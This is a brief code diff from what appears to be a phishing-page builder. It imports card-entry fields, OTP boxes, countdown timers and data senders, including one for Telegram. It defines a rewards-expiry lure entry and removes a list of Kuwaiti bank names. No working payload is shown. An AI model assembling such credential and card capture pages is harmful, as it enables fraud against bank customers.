@@ -1,8 +1,6 @@
 import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
 import { doc, wordmark, cardCss, cardFields, cardMaskJs, otpBoxes, otpJs, countdownJs, stepFlow, sendFetchForm, sendJson, sendXhr, sendTelegram, json, js, b64 } from '../parts/yl-kit.js';
 
-const knetBanks = ['Al Ahli Bank of Kuwait (ABK)', 'Boubyan Bank', 'Burgan Bank', 'Commercial Bank of Kuwait (CBK)', 'Gulf Bank', 'Kuwait Finance House (KFH)', 'Kuwait International Bank (KIB)', 'National Bank of Kuwait (NBK)', 'Warba Bank', 'Al Rajhi Bank'];
-
 export const entries: Entry[] = [
 {
   id: 'yl-eand-smiles-points-expiry',
